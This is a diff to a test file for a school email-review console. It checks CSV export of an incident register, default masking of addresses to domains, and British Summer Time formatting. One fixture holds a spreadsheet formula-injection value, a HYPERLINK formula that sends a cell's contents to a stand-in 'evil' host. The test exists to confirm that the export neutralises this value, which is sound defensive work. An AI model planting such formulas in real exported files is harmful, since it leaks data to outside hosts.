@@ -4,7 +4,7 @@
 import { describe, expect, it } from 'vitest';
 import { escapeHtml, html } from '../src/review/console/html.ts';
 import { highlight, matchesEvidence } from '../src/review/console/pages/incident.ts';
-import { registerCsv } from '../src/review/console/pages/register.ts';
+import { csvCells, registerCsv } from '../src/review/register.ts';
 import { maskFindings } from '../src/review/console/privacy.ts';
 import { localDayStart } from '../src/review/console/data.ts';
 import { sanitiseForViewer, unsafeCss } from '../src/review/console/viewer.ts';
@@ -90,12 +90,17 @@ describe('what people without access to the message see', () => {
       findings: [{ detector: 'd', where: 'body', evidence: '+44 ****', reason: 'r' }], potentialBreach: false, breachMarkedAt: null, icoDeadline: null, escalatedAt: null,
       heldBy: 'h', updatedAt: new Date(),
     } as Incident;
-    const csv = registerCsv([{ incident: inc, decision: null }], 'Europe/London');
-    const row = csv.split('\r\n')[1];
-    expect(row).toContain(`"'=HYPERLINK(""http://evil/""&A1)@school.example"`);
+    const schoolName = () => 'Oakfield Primary';
+    // One privacy default: the sender and recipients as their domains.
+    const row = registerCsv([{ incident: inc, decision: null }], { timeZone: 'Europe/London', schoolName }).split('\r\n')[1];
     expect(row).toContain('"2026-07-01 10:30"'); // British Summer Time
     expect(row).toContain('"x.example"');
     expect(row).toContain('"2"');
+    expect(row).not.toContain('a@x.example');
+    // With the addresses, a sender that looks like a formula is neutralised.
+    const full = registerCsv([{ incident: inc, decision: null }], { timeZone: 'Europe/London', schoolName, withAddresses: true }).split('\r\n')[1];
+    expect(full).toContain(`"'=HYPERLINK(""http://evil/""&A1)@school.example"`);
+    expect(csvCells(full)[12]).toBe('a@x.example; b@x.example');
   });
 
   it('starts a school day at local midnight, summer and winter', () => {
